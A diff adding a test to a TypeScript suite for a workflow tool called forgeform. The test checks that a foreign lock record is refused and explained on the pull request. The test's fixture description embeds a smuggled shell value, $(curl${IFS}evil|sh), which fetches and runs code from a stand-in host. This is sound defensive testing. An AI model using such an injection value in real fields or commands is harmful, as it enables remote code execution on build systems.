@@ -139,6 +139,22 @@ describe.each(['github', 'gitea'] as const)('the %s example workflows, as a runn
     expect(issues).toEqual([expect.objectContaining({ state: 'closed' })]);
   }, JOURNEY_TIMEOUT);
 
+  it('an apply refused by the lock says why on the pull request (a foreign forgeform-lock: its reason, not an empty block)', async () => {
+    j = await journey(kind, actionDir);
+    const { pull } = await j.open('Adopt forgeform', exampleConfig());
+    // A record forgeform never writes: a lock id of shell. The apply must refuse it, and say so.
+    const description = 'Held by forgeform apply: user=ci host=build-7 pid=1 since=2026-01-01T00:00:00Z renewed=2026-01-01T00:00:00Z id=$(curl${IFS}evil|sh)';
+    expect((await j.api(j.managed, 'POST', 'orgs', { username: 'forgeform-lock', visibility: 'private', description })).status).toBe(201);
+    const merged = await j.merge(pull);
+    expect(results(merged.runs)).toEqual([`${applyFile}/apply: failure`]);
+    const body = (await ownComment(j, pull.number))[0]!.body;
+    expect(body).toContain('**The apply after the merge failed**');
+    expect(body).toContain('an organisation named "forgeform-lock" exists that is not forgeform\'s apply lock (its description\'s id is not one forgeform writes). Nothing was changed.');
+    expect(body).not.toMatch(/```text\n```/);
+    expect(body).not.toContain('curl${IFS}');
+    expect(j.managed.requests().filter((r) => r.method !== 'GET' && r.path !== '/api/v1/orgs')).toEqual([]);
+  }, JOURNEY_TIMEOUT);
+
   it('a failed plan replaces the plan in the comment, and a merge of it applies nothing', async () => {
     j = await journey(kind, actionDir);
     const config = exampleConfig();
